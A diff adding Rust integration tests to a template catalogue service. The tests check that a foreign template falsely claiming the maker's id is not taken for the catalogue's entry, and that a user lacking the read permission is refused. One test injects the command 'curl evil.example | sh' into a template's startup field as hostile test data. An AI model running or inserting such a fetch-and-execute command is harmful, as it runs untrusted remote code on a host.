@@ -1,19 +1,20 @@
 //! The catalogue: entries fetched from a server on this machine, compared and imported, and a newer catalogue in its place.
 
-use crate::world::{World, count, on_both};
+use crate::world::{World, count, new_user, on_both};
 use raptor_core::{
     Error,
     auth::Origin,
     authz::{
-        Actor,
+        Actor, SystemPermission, SystemSet,
         actions::{
-            DeleteTemplate, ImportTemplate, ListTemplates, ReadCatalogueSource, UpdateCatalogueSource,
+            CreateRole, CreateUser, DeleteTemplate, ImportTemplate, ListTemplates, ReadCatalogueSource,
+            UpdateCatalogueSource, UpdateTemplate,
         },
     },
     catalogue::service::{Compared, Fetched, Listing, Search, Variants},
     outbound::Outbound,
     paging::PageRequest,
-    roles::Builtin,
+    roles::{Builtin, RoleDraft},
     templates::service::{Import, Outcome},
 };
 use serde_json::{Value, json};
@@ -211,6 +212,54 @@ async fn a_template_that_somebody_imported_by_hand_is_used_in_place_of_a_twin() 
         assert_eq!((made.outcome, made.template.id), (Outcome::Unchanged, by_hand.id));
         assert_eq!(list(&world, "trains").await.page.items[0].template_id, Some(by_hand.id));
         assert_eq!(count(&world, "SELECT COUNT(*) FROM templates").await, 1);
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn a_template_that_only_claims_the_makers_id_is_not_taken_for_the_catalogues() {
+    on_both(|world| async move {
+        let server = Server::new().await;
+        let world = connected(world, &server).await;
+        let egg = EGG.replacen('{', "{ \"uuid\": \"5f2a2b1e-0000-4000-8000-000000000009\",", 1);
+        server.put(PLACE, egg.clone());
+        server.put("/catalogue.json", file(&hash(&egg)).to_string());
+        set(&world, Some(&server.url("/catalogue.json"))).await.unwrap();
+        let foreign = egg.replacen("\"startup\": \"", "\"startup\": \"curl evil.example | sh; ", 1);
+        let permit = world.raptor.authz().allow::<ImportTemplate>(&Actor::System).unwrap();
+        let foreign = world.raptor.templates().import(permit, foreign.as_bytes()).await.unwrap().template;
+        let made = import(&world, "trains", None).await.unwrap();
+        assert_eq!(made.outcome, Outcome::Created);
+        assert_ne!(made.template.id, foreign.id);
+        assert!(!made.template.document.startup.contains("evil"));
+        assert_eq!(list(&world, "trains").await.page.items[0].template_id, Some(made.template.id));
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn without_the_right_to_read_templates_the_catalogue_tells_nothing_of_those_that_are_here() {
+    on_both(|world| async move {
+        let (world, _server) = ready(world).await;
+        let id = import(&world, "trains", None).await.unwrap().template.id;
+        let permit = world.raptor.authz().permit::<UpdateTemplate>(&Actor::System, id).await.unwrap();
+        let edited = EGG.replacen("\"startup\": \"", "\"startup\": \"SECRET=1 ", 1);
+        world.raptor.templates().revise(permit, edited.as_bytes(), None, None).await.unwrap();
+        let permit = world.raptor.authz().allow::<CreateRole>(&Actor::System).unwrap();
+        let permissions = SystemSet::NONE.with(SystemPermission::TemplatesCreate);
+        let draft = RoleDraft { name: "imports".into(), description: String::new(), permissions };
+        let role_id = world.raptor.roles().create(permit, draft).await.unwrap().id;
+        let permit = world.raptor.authz().allow::<CreateUser>(&Actor::System).unwrap();
+        world.raptor.users().create(permit, new_user("steve", role_id)).await.unwrap();
+        let steve = world.signed_in("steve").await.1;
+        let permit = || world.raptor.authz().allow::<ImportTemplate>(&steve).unwrap();
+        let fetched = world.raptor.catalogue().fetch(permit(), "trains").await.unwrap();
+        assert!(fetched.compared == Compared::Nothing && fetched.changes.is_empty());
+        let refused = world.raptor.catalogue().import(permit(), "trains", None).await.unwrap_err();
+        assert!(
+            matches!(&refused, Error::Forbidden { permission } if permission == "templates.read"),
+            "{refused}"
+        );
     })
     .await;
 }
